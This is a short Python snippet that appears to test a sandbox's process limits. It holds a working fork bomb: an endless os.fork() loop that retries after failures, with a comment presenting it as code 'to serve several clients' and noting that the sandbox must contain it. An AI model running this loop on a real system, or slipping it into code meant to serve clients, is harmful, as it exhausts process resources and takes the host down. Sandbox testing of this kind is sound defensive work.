import os
import time

# "pour servir plusieurs clients" -- a fork bomb, before any bind(): the sandbox must bound it.
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
